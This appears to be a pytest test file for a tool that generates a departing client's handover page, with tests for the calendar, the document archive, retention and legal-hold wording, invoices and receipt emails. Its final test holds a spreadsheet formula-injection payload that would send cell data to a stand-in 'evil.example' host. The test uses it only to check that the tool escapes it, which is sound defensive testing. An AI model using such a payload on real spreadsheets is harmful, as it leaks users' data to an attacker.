"""The departing client's page: calendar, one-download archive, retention, closing the loop."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import textwrap
import zipfile
from urllib.parse import parse_qs, unquote, urlparse

import icalendar
import pytest

from tests import sealed
from tests.conftest import Project

FULL_CASE = """
    client: {name: Complete Client s.r.o., contact: Carla Complete, email: carla@client.example}
    language: en
    service_end: 2026-12-31
    deletion_date: 2027-01-31
    message: Thank you.
    achievements: [Cut closing time from 15 to 5 days, Passed four audits]
    services:
      - {name: Bookkeeping, status: ended}
    documents:
      - title: General ledger 2025
        file: documents/ledger.csv
        category: Accounting
      - title: Payroll 2019-2025
        file: documents/payroll.csv
        category: Payroll
        available_until: 2027-01-15
        retain_until: 2036-12-31
        retention_basis: the statutory 10-year bookkeeping duty
      - title: Scans
        url: https://files.example.com/scans
    accounts:
      - system: Bank portal
        action: revoke-our-access
        by: 2026-12-15
        steps: [Remove user "firm"]
    contacts:
      - {name: Petr Svoboda, email: petr@firm.example}
    invoices:
      - {number: "2026-101", amount: 1250.5, currency: EUR, due: 2026-12-20, status: open}
      - {number: "2026-088", amount: 900, currency: EUR, due: 2026-10-20, status: paid}
    support: {what: Ad-hoc questions by e-mail, price: 90 EUR per hour, until: 2027-06-30}
    successor: {name: Newco Accounting, contact: Nina New, received: [Ledgers 2019-2025, Payroll]}
    feedback: {url: https://survey.example.com/exit}
"""
FILES = {"documents/ledger.csv": b"a,b\n1,2\n", "documents/payroll.csv": b"month,total\n01,5\n"}


@pytest.fixture
def built(project: Project) -> Project:
    project.write_case("complete", FULL_CASE, FILES)
    result = project.run("build", "--today", "2026-12-01")
    assert result.exit_code == 0, result.output
    return project


def page(project: Project) -> str:
    return sealed.open_page(project.site, "complete")[0]


def download(project: Project, suffix: str) -> bytes:
    _, files = sealed.open_page(project.site, "complete")
    (href,) = [h for h in files if h.endswith(suffix)]
    return sealed.open_file(project.site, "complete", href)


def test_calendar_has_every_date_with_a_reminder(built: Project) -> None:
    calendar = icalendar.Calendar.from_ical(download(built, ".ics"))
    events = {
        (event.decoded("dtstart"), str(event["summary"])) for event in calendar.walk("VEVENT")
    }
    assert events == {
        (dt.date(2026, 12, 31), "Example Partners: last day of service"),
        (dt.date(2026, 12, 15), "Deadline: Bank portal"),
        (dt.date(2027, 1, 15), "Last day to download: Payroll 2019-2025"),
        (dt.date(2027, 1, 31), "Last day to download 2 documents"),
        (dt.date(2026, 12, 20), "Payment due: invoice 2026-101"),
        (
            dt.date(2027, 1, 31),
            "Example Partners: deletion of your data, except the records the law requires us "
            "to keep",
        ),
    }
    (shared_day,) = [e for e in calendar.walk("VEVENT") if "2 documents" in str(e["summary"])]
    assert str(shared_day["description"]) == "General ledger 2025\nScans", "one entry names both"
    for event in calendar.walk("VEVENT"):
        assert event["uid"] and event["dtstamp"]
        (alarm,) = event.walk("VALARM")
        assert alarm["action"] == "DISPLAY"
        assert alarm.decoded("trigger") < dt.timedelta(0)
    assert calendar["version"] == "2.0" and calendar["prodid"]


def test_archive_holds_every_available_file_and_the_manifests(built: Project) -> None:
    archive = zipfile.ZipFile(io.BytesIO(download(built, "-documents.zip")))
    assert archive.testzip() is None
    assert sorted(archive.namelist()) == [
        "documents/ledger.csv",
        "documents/payroll.csv",
        "manifest.csv",
        "manifest.json",
    ]
    for name, content in FILES.items():
        assert archive.read(name) == content
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["files"][0] == {
        "title": "General ledger 2025",
        "category": "Accounting",
        "file": "documents/ledger.csv",
        "size": len(FILES["documents/ledger.csv"]),
        "sha256": hashlib.sha256(FILES["documents/ledger.csv"]).hexdigest(),
        "available_until": "2027-01-31",
    }
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    assert [row["sha256"] for row in rows] == [f["sha256"] for f in manifest["files"]]


def test_page_shows_the_manifest_fingerprint_and_how_to_verify(built: Project) -> None:
    manifest = download(built, "-manifest.json")
    html = page(built)
    assert hashlib.sha256(manifest).hexdigest() in html
    assert "<code>sha256sum FILE</code>" in html and "<code>Get-FileHash FILE</code>" in html
    assert "Download all documents as one ZIP file (" in html


def test_retained_documents_are_told_apart_from_deleted_ones(built: Project) -> None:
    html = page(built)
    assert (
        "On January 31, 2027, Example Partners deletes the data it holds about you (the "
        "documents on this page, our working files and our access records), except the 1 "
        "record the law requires us to keep, named below." in " ".join(html.split())
    )
    assert "every copy" not in html
    assert (
        "<strong>Payroll 2019-2025</strong>: kept until December 31, 2036; legal basis: the "
        "statutory 10-year bookkeeping duty" in html
    )


def test_legal_hold_stops_deletion_and_says_so(project: Project) -> None:
    project.write_case("complete", "legal_hold: true\n" + textwrap.dedent(FULL_CASE), FILES)
    project.run("build", "--today", "2027-03-01")
    html = page(project)
    assert "Legal hold" in html and "On hold for legal reasons" in html
    assert "Deletion confirmed" not in html
    assert "deletes every copy" not in html
    # Nothing contradicts the hold: no document claims a last day that is the deletion date.
    assert "Available while deletion is on hold" in html
    assert "Last day to download: January 31, 2027" not in html
    calendar = icalendar.Calendar.from_ical(download(project, ".ics"))
    summaries = [str(event["summary"]) for event in calendar.walk("VEVENT")]
    assert not any("deletion" in s.lower() or "2 documents" in s for s in summaries), summaries


def test_retain_date_before_deletion_is_rejected(project: Project) -> None:
    project.write_case(
        "complete", FULL_CASE.replace("retain_until: 2036-12-31", "retain_until: 2027-01-01"), FILES
    )
    result = project.run("validate")
    assert result.exit_code == 1
    assert (
        "documents[1].retain_until: 2027-01-01 is before the deletion date 2027-01-31"
        in result.output
    )


def test_invoices_open_ones_highlighted_amounts_per_locale(built: Project) -> None:
    html = page(built)
    assert '<tr class="handover-invoice--open">' in html
    assert "€1,250.50" in html
    assert '<span class="handover-badge handover-badge--paid">Paid</span>' in html


def test_closing_sections_render_when_present(built: Project) -> None:
    html = page(built)
    for text in [
        "What we achieved together",
        "Cut closing time from 15 to 5 days",
        "Who takes over from us",
        "Newco Accounting",
        "Ledgers 2019-2025",
        "Paid support after the handover",
        "90 EUR per hour",
        "Tell us how we did",
        "https://survey.example.com/exit",
    ]:
        assert text in html, text


def test_confirm_receipt_is_a_prefilled_email_with_the_fingerprint(built: Project) -> None:
    html = page(built)
    fingerprint = hashlib.sha256(download(built, "-manifest.json")).hexdigest()
    receipt = html[html.index("data-handover-receipt ") :]
    start = receipt.index('href="mailto:')
    href = receipt[start + 6 : receipt.index('"', start + 6)].replace("&amp;", "&")
    assert href.startswith("mailto:petr@firm.example?"), "to the case's contact, not the firm"
    query = parse_qs(urlparse(href).query)
    assert unquote(query["subject"][0]) == "Handover received: Complete Client s.r.o."
    body = query["body"][0]
    assert body.startswith("Dear Sir or Madam,\n\nWe confirm that we received the handover.")
    assert fingerprint in body and body.endswith("Kind regards,\nComplete Client s.r.o.")


def test_acknowledged_receipt_replaces_the_button(project: Project) -> None:
    case = textwrap.dedent(FULL_CASE) + "acknowledged: {date: 2026-12-02, name: Carla Complete}\n"
    project.write_case("complete", case, FILES)
    project.run("build", "--today", "2026-12-03")
    html = page(project)
    assert "Receipt confirmed by Carla Complete on December 2, 2026." in html
    assert "Confirm receipt by email" not in html and "data-handover-receipt " not in html


def test_print_letterhead_names_firm_client_date_and_fingerprint(built: Project) -> None:
    html = page(built)
    assert '<div class="handover-print-only handover-letterhead">' in html
    assert (
        "Handover record (Complete Client s.r.o.), correct as at "
        f"{sealed.prepared_on('2026-12-01', 'December 1, 2026')}." in html
    )


def test_checklist_steps_and_deadlines_are_marked_for_the_browser(built: Project) -> None:
    html = page(built)
    assert 'data-due="2026-12-15"' in html
    assert re.search(r'<input type="checkbox" id="handover-step-[0-9a-f]{16}" data-step=', html)


def test_an_account_marked_done_shows_done_with_its_steps_ticked(project: Project) -> None:
    case = textwrap.dedent(FULL_CASE).replace(
        "by: 2026-12-15\n", "by: 2026-12-15\n    done: true\n"
    )
    project.write_case("complete", case, FILES)
    assert project.run("build", "--today", "2026-12-01").exit_code == 0
    html = page(project)
    assert 'handover-badge--done">Done<' in html
    assert 'data-due="2026-12-15"' not in html
    assert re.search(r"<input[^>]*checked[^>]*><label[^>]*>Remove user", html)
    calendar = icalendar.Calendar.from_ical(download(project, ".ics"))
    assert not [e for e in calendar.walk("VEVENT") if "Bank portal" in str(e["summary"])]


def test_case_text_stays_text_in_spreadsheets_and_mail_subjects(project: Project) -> None:
    """A title pasted from elsewhere is shown by a spreadsheet, never run as a formula; a
    client's name reaches a mail subject as written, not as HTML."""
    formula = '=HYPERLINK("https://evil.example/?leak="&E3,"Verify")'
    case = FULL_CASE.replace("Complete Client s.r.o.", "Smith & Sons <Ltd>").replace(
        "title: General ledger 2025", f"title: '{formula}'"
    )
    assert formula in case
    project.write_case("complete", case, FILES)
    result = project.run("build", "--today", "2026-12-01")
    assert result.exit_code == 0, result.output
    text = download(project, "-manifest.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["title"] == "'" + formula
    subjects = [
        unquote(parse_qs(urlparse(href.replace("&amp;", "&")).query)["subject"][0])
        for href in re.findall(r'href="(mailto:[^"]*subject=[^"]*)"', page(project))
    ]
    named = [subject for subject in subjects if "Smith" in subject]
    assert named and all("Smith & Sons <Ltd>" in subject for subject in named), subjects
